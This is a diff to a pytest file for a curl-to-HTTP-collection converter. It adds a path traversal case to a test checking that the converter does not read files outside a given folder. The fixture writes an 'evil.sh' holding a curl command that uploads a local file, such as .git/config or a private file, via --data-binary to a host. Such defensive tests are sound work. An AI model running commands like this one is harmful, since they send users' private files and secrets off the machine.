@@ -135,12 +135,16 @@ def test_standard_input(capsys, monkeypatch):
     assert Path("api/requests.http").read_text() == "### GET /a\nGET https://example.org/a\n"
 
 
-@pytest.mark.parametrize("path", ["../private.txt", "/private.txt", "link.txt", ".git/config"])
+@pytest.mark.parametrize(
+    "path",
+    ["../private.txt", "/private.txt", "link.txt", ".git/config", "../given/inside.txt"],
+)
 def test_a_file_elsewhere_is_not_read_for_a_collection(capsys, path):
     Path("private.txt").write_text("mine")
     Path("given/.git").mkdir(parents=True)
     Path("given/.git/config").write_text("mine")
     Path("given/link.txt").symlink_to("../private.txt")
+    Path("given/inside.txt").write_text("of the folder, and told in a way that leads out of it")
     Path("given/evil.sh").write_text(f"curl -L https://example.org/ --data-binary @{path}")
     code, out, err = run(capsys, "curl", "given/evil.sh", "-o", "api")
     assert (code, out) == (0, "api/evil.http\n")
